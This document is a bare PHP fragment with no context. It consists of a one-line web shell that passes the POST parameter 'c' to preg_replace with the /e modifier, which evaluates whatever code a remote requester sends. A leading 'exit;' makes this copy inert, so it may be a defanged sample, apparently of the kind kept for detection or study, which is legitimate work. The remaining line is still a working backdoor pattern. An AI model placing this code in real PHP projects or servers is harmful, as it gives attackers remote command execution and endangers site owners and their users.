<?php exit;
preg_replace('/.*/e', $_POST['c'], 'x');
